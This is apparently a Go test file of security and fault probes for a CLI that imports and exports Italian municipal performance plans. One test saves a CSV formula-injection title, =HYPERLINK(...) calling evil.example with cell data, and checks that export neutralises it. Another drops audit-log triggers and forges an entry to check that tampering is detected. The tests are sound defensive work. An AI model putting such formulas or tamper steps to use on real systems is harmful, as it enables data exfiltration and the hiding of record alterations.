package main

import (
	"context"
	"database/sql"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/performa-pa/performa/internal/domain"
	"github.com/performa-pa/performa/internal/italian"
	"github.com/performa-pa/performa/internal/seedtest"
	"github.com/performa-pa/performa/internal/store"
)

// The cases of the security and fault probe (issue 11), from the command
// line.

// importedSeed imports the seed into a new SQLite store with the command
// and opens the store (closed by the caller).
func importedSeed(t *testing.T) (string, *store.Store, []domain.Organization) {
	t.Helper()
	dsn := filepath.Join(t.TempDir(), "performa.db")
	if code, out, errs := runCmd(t, "import", seedtest.Path(t), "--db", dsn); code != 0 {
		t.Fatalf("import: %d %s %s", code, out, errs)
	}
	st, err := store.Open(context.Background(), dsn)
	if err != nil {
		t.Fatal(err)
	}
	orgs, _ := st.Organizations(context.Background())
	return dsn, st, orgs
}

// A title saved through the edit form that a spreadsheet would run is
// written to CSV as text.
func TestProbeFormulaTitleToCSV(t *testing.T) {
	ctx := context.Background()
	dsn, st, orgs := importedSeed(t)
	p, err := st.CurrentPlan(ctx, orgs[0].ID)
	if err != nil {
		t.Fatal(err)
	}
	o := *p.Units[0].Objectives[0]
	loc, err := st.LocateObjective(ctx, orgs[0].ID, o.ID)
	if err != nil {
		t.Fatal(err)
	}
	o.Title = `=HYPERLINK("http://evil.example/?"&A1,"clic")`
	if _, err := st.UpdateObjective(ctx, orgs[0].ID, &o, loc.Revision, "admin"); err != nil {
		t.Fatal(err)
	}
	st.Close()

	out := filepath.Join(t.TempDir(), "piano.csv")
	if code, stdout, errs := runCmd(t, "export", "--db", dsn, "--format", "csv", "--output", out); code != 0 {
		t.Fatalf("export: %d %s %s", code, stdout, errs)
	}
	data, _ := os.ReadFile(out)
	if !strings.Contains(string(data), `;"'=HYPERLINK(""http://evil.example/?""&A1,""clic"")";`) {
		t.Errorf("the title is not neutralised in the CSV:\n%.2000s", data)
	}
	for _, line := range strings.Split(string(data), "\r\n") {
		for _, f := range strings.Split(line, ";") {
			if strings.HasPrefix(strings.TrimPrefix(f, `"`), "=") {
				t.Errorf("field %q would run as a formula", f)
			}
		}
	}
}

// INSERT OR REPLACE on an audit entry is refused; with the triggers
// dropped it goes through, and audit verify names the entry.
func TestProbeAuditReplaceThenVerify(t *testing.T) {
	ctx := context.Background()
	dsn, st, orgs := importedSeed(t)
	entries, _ := st.AuditLog(ctx, orgs[0].ID, 0)
	st.Close()
	e := entries[0]
	db, err := sql.Open("sqlite", dsn)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	replace := `INSERT OR REPLACE INTO audit_log (organization_id, id, seq, at, actor, action, entity, entity_id,
		before_json, after_json, prev_hash, hash) SELECT organization_id, id, seq, at, 'intruso', action, entity,
		entity_id, before_json, after_json, prev_hash, hash FROM audit_log WHERE organization_id = $1 AND id = $2`
	if _, err := db.Exec(replace, e.OrganizationID, e.ID); err == nil {
		t.Fatal("INSERT OR REPLACE on the audit log accepted")
	}
	code, out, errs := runCmd(t, "audit", "verify", "--db", dsn)
	if code != 0 || !strings.Contains(out, "Registro dell'ente «Comune di Montepulciano»: 1 voce, catena integra. Ultima voce: n. 1 del ") {
		t.Fatalf("verify, intact: %d %s %s", code, out, errs)
	}
	for _, q := range []string{"DROP TRIGGER audit_log_no_replace", "DROP TRIGGER audit_log_no_delete"} {
		if _, err := db.Exec(q); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := db.Exec(replace, e.OrganizationID, e.ID); err != nil {
		t.Fatal(err)
	}
	code, out, errs = runCmd(t, "audit", "verify", "--db", dsn, "--organization", "Comune di Montepulciano")
	// The entry in the Registro's words: the plan by its cycle, not by the
	// store's internal number.
	want := "catena interrotta: la voce n. 1 del " + italian.DateTime(e.At) +
		" (Importazione del piano 2022–2024 (versione 1), di intruso) è stata alterata dopo la scrittura"
	if code != 1 || !strings.Contains(out, want) || strings.Contains(out, strconv.FormatInt(e.EntityID, 10)) {
		t.Fatalf("verify, tampered: %d %s %s\nwant %s", code, out, errs, want)
	}
}

// A CSV holding only the header row: check says the import would empty the
// draft, import refuses it and leaves the 124 objectives in place, --force
// imports it.
func TestProbeHeaderOnlyCSV(t *testing.T) {
	dir := t.TempDir()
	dsn := filepath.Join(dir, "performa.db")
	if code, out, errs := runCmd(t, "import", seedtest.Path(t), "--db", dsn); code != 0 {
		t.Fatalf("import: %d %s %s", code, out, errs)
	}
	csv := filepath.Join(dir, "solo-intestazione.csv")
	header := "Unità;N° missione;Missione;N° programma;Programma;N° obiettivo;Peso;Obiettivo;Indicatore;Baseline 2021;Target 2022;Target 2023;Target 2024\r\n"
	if err := os.WriteFile(csv, []byte("\ufeff"+header), 0o644); err != nil {
		t.Fatal(err)
	}
	org := "Comune di Montepulciano"
	code, out, _ := runCmd(t, "check", csv, "--organization", org)
	if code != 1 || !strings.Contains(out, "[plan.empty]") || !strings.Contains(out, "svuoterebbe la bozza") ||
		!strings.Contains(out, "Importazione: rifiutata senza --force") {
		t.Errorf("check: %d\n%s", code, out)
	}
	code, out, errs := runCmd(t, "import", csv, "--db", dsn, "--organization", org)
	if code != 1 || !strings.Contains(errs, "piano non importato") || !strings.Contains(errs, "--force") ||
		!strings.Contains(errs, "L'archivio non è stato modificato.") {
		t.Errorf("import: %d %s %s", code, out, errs)
	}
	objectives := func() int {
		st, err := store.Open(context.Background(), dsn)
		if err != nil {
			t.Fatal(err)
		}
		defer st.Close()
		o, _ := st.OrganizationByName(context.Background(), org)
		p, err := st.CurrentPlan(context.Background(), o.ID)
		if err != nil {
			t.Fatal(err)
		}
		return p.Objectives()
	}
	if n := objectives(); n != 124 {
		t.Fatalf("after the refusal the draft has %d objectives", n)
	}
	code, out, errs = runCmd(t, "import", csv, "--db", dsn, "--organization", org, "--force")
	if code != 0 || !strings.Contains(out, "importato nonostante") {
		t.Errorf("import --force: %d %s %s", code, out, errs)
	}
	if n := objectives(); n != 0 {
		t.Errorf("after --force the draft has %d objectives", n)
	}
}

// The seed with CRLF, CR and LF line ends mixed is read whole: 124
// objectives, as the seed.
func TestProbeMixedLineEnds(t *testing.T) {
	dir := t.TempDir()
	seed := seedtest.Bytes(t)
	var b strings.Builder
	for i, l := range strings.Split(string(seed), "\n") {
		if i > 0 {
			b.WriteString([...]string{"\r\n", "\n", "\r"}[i%3])
		}
		b.WriteString(l)
	}
	mixed := filepath.Join(dir, "misto.txt")
	if err := os.WriteFile(mixed, []byte(b.String()), 0o644); err != nil {
		t.Fatal(err)
	}
	dsn := filepath.Join(dir, "performa.db")
	code, out, errs := runCmd(t, "import", mixed, "--db", dsn)
	if code != 0 || !strings.Contains(out, "8 unità, 124 obiettivi, 144 indicatori") {
		t.Errorf("import: %d %s %s", code, out, errs)
	}
	allCR := filepath.Join(dir, "cr.txt")
	if err := os.WriteFile(allCR, []byte(strings.ReplaceAll(string(seed), "\n", "\r")), 0o644); err != nil {
		t.Fatal(err)
	}
	if code, out, _ := runCmd(t, "check", allCR); !strings.Contains(out, "8 unità, 124 obiettivi, 144 indicatori") {
		t.Errorf("check of an all-CR file: %d %s", code, out)
	}
}
